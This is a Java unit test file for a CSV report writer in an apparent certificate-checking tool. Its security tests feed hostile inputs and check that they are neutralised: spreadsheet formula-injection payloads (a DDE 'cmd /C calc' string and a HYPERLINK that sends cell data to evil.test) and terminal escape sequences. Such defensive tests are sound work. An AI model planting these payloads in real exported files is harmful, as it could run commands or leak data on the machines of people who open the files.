package org.certcheck.report;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.time.Duration;
import java.util.List;
import java.util.Optional;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import org.certcheck.finding.Finding;
import org.certcheck.finding.FindingCode;
import org.certcheck.finding.Severity;

import static org.assertj.core.api.Assertions.assertThat;

class CsvReporterTest {
    private final ReportFixtures fixtures = new ReportFixtures();

    @Test
    void headerThenOneRowPerVerdictWithCrlfLineEnds() throws IOException {
        String csv = render(ReportFixtures.reportOf(fixtures.fail(), ReportFixtures.unknown()));

        assertThat(csv).isEqualTo(String.join("\r\n",
                "target,origin,status,days_left,not_after,subject,issuer,serial,sha256,anchor,codes,reasons",
                "old.corp.test:443,hosts.txt:2,FAIL,-3,2026-11-20T12:00:00Z,CN=old.corp.test,CN=Corp Intermediate CA,"
                        + fixtures.expiredLeaf.serialNumber() + "," + fixtures.expiredLeaf.sha256Fingerprint()
                        + ",,cert.expired host.mismatch,\"expired 3 days ago (notAfter 2026-11-20 12:00 UTC): renew it\n"
                        + "not valid for old.corp.test: the certificate names DNS:new.corp.test\"",
                "down.corp.test:443,hosts.txt:4,UNKNOWN,,,,,,,,probe.refused,"
                        + "connection refused by 10.0.0.7:443: is the service running on this port?",
                ""));
    }

    @Test
    void everyRowParsesBackWithTheSameFacts() throws IOException {
        List<CSVRecord> rows = parse(render(fixtures.report()));

        assertThat(rows).hasSize(4);
        CSVRecord pass = rows.get(0);
        assertThat(pass.get("target")).isEqualTo("www.corp.test:443");
        assertThat(pass.get("status")).isEqualTo("PASS");
        assertThat(pass.get("days_left")).isEqualTo("89");
        assertThat(pass.get("not_after")).isEqualTo("2027-02-21T00:00:00Z");
        assertThat(pass.get("subject")).isEqualTo("CN=www.corp.test");
        assertThat(pass.get("serial")).isEqualTo("1A2B3C");
        assertThat(pass.get("sha256")).isEqualTo(fixtures.wwwLeaf.sha256Fingerprint());
        assertThat(pass.get("anchor")).isEqualTo("CN=Corp Root CA");
        assertThat(pass.get("codes")).isEqualTo("tls.handshake-failed");
        CSVRecord fail = rows.get(1);
        assertThat(fail.get("reasons").split("\n")).containsExactly(
                "expired 3 days ago (notAfter 2026-11-20 12:00 UTC): renew it",
                "not valid for old.corp.test: the certificate names DNS:new.corp.test");
        assertThat(rows).extracting(row -> row.get("status")).containsExactly("PASS", "FAIL", "WARN", "UNKNOWN");
        assertThat(rows.get(3).get("days_left")).isEmpty();
    }

    @Test
    void cellsASpreadsheetWouldRunAsFormulasBecomeTextButNegativeDaysStayNumbers() throws IOException {
        String formula = "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")";
        Verdict hostile = new Verdict("+cmd|' /C calc'!A0", "@SUM(1+1)", Status.FAIL,
                List.of(Finding.of(FindingCode.CHAIN_UNTRUSTED, Severity.FAIL, formula)), Optional.empty(),
                List.of(fixtures.expiredLeaf), List.of(), Optional.of("-2+3"), Duration.ZERO);

        CSVRecord row = parse(render(ReportFixtures.reportOf(hostile))).get(0);

        assertThat(row.get("target")).isEqualTo("'+cmd|' /C calc'!A0");
        assertThat(row.get("origin")).isEqualTo("'@SUM(1+1)");
        assertThat(row.get("reasons")).isEqualTo("'" + formula);
        assertThat(row.get("anchor")).isEqualTo("'-2+3");
        assertThat(row.get("days_left")).isEqualTo("-3");
    }

    @Test
    void controlCharactersFromACertificateAreShownAsEscapes() throws IOException {
        Verdict hostile = new Verdict("evil\u001b[2J.test:443", "hosts.txt:1", Status.UNKNOWN,
                List.of(Finding.of(FindingCode.PROBE_REFUSED, Severity.UNKNOWN, "line\r\nbreak\u009b")),
                Optional.empty(), List.of(), List.of(), Optional.empty(), Duration.ZERO);

        String csv = render(ReportFixtures.reportOf(hostile));
        CSVRecord row = parse(csv).get(0);

        assertThat(row.get("target")).isEqualTo("evil\\x1B[2J.test:443");
        assertThat(row.get("reasons")).isEqualTo("line\\x0D\\x0Abreak\\u{009B}");
        assertThat(csv.chars().filter(c -> c < 0x20 && c != '\r' && c != '\n')).isEmpty();
    }

    private static String render(Report report) throws IOException {
        StringWriter out = new StringWriter();
        new CsvReporter().write(report, out);
        return out.toString();
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();
    }
}
